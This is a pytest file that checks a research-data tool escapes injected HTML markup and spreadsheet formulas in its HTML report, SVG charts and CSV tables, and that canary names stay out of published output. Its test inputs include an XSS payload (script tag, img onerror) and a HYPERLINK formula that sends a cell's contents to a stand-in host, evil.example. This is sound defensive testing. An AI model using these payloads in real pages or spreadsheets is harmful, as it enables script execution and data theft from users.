"""Markup and formulas in research data are data: a run ends well, and nothing that it writes can run."""

from __future__ import annotations

import csv
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.promises.breaking import call
from tests.promises.small_study import CANARIES, SmallStudy, make_small_study

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
FORMULA_STARTS = ("=", "+", "@", "\t", "\r")

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("prefect")]


class Page(HTMLParser):
    """What a browser would find in a page: elements and their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep an element."""
        self.elements.append((tag, dict(attrs)))


def hostile(study: SmallStudy) -> SmallStudy:
    """Put markup and formulas wherever researchers may write."""
    study.fill("raw/interviews.csv", "fragment", lambda at, _: f"{(MARKUP, FORMULA)[at % 2]} {at}")
    study.fill("raw/codebook.csv", "label", lambda at, row: f"{(MARKUP, FORMULA)[at % 2]} {row['code']}")
    study.fill("raw/map.csv", "label", lambda at, row: f"{(FORMULA, MARKUP)[at % 2]} {row['touchpoint']}")
    study.fill("raw/map.csv", "action", f"{MARKUP} acts").fill("raw/map.csv", "owner", FORMULA)
    study.replace("raw/log.csv", ",advert,", ",=advert<blink>,").replace(
        "raw/map.csv", "advert,", "=advert<blink>,"
    )
    study.replace("raw/survey.csv", ",Web,", ",=1+1<blink>,")
    study.edit("study: Small shop", f"study: '{MARKUP} shop'")
    study.edit("label: Watches the price", f"label: '{MARKUP} price'")
    return study.edit("label: Wants it easy", "label: '=1+1 easy'")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a run of a study full of markup and formulas."""
    study = hostile(make_small_study(tmp_path_factory.mktemp("hostile") / "small"))
    result = call("run", str(study.path), "--out", str(study.folder / "made"))
    assert result.exit_code == 0, f"{result.stderr} {result.exception!r}"
    return study.folder / "made"


def test_markup_in_the_page_is_text(made: Path):
    text = (made / "report.html").read_text(encoding="utf-8")
    assert "alert(1)" in text  # it is shown, as text
    page = Page(text)
    assert [attrs for tag, attrs in page.elements if tag == "img" and attrs.get("src") == "x"] == []
    assert [name for _, attrs in page.elements for name in attrs if name.startswith("on")] == []
    assert "<script>alert" not in text
    assert [tag for tag, _ in page.elements if tag == "blink"] == []


def test_markup_in_charts_is_text(made: Path):
    charts = [path.read_text(encoding="utf-8") for path in sorted((made / "charts").glob("*.svg"))]
    assert charts
    assert [
        text for text in charts if "<script" in text or "<img" in text or "onerror=alert(2)>" in text
    ] == []


def test_formulas_in_tables_are_text(made: Path):
    files = [*sorted((made / "tables").glob("*.csv")), *sorted((made / "private").rglob("*.csv"))]
    cells = [
        cell for path in files for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row
    ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


def test_nobody_is_in_what_is_published(made: Path):
    published = [
        made / "report.html",
        *sorted((made / "tables").glob("*.csv")),
        *sorted((made / "charts").glob("*.svg")),
    ]
    found = [
        (path.name, name)
        for path in published
        for name in CANARIES
        if name in path.read_text(encoding="utf-8")
    ]
    assert found == []
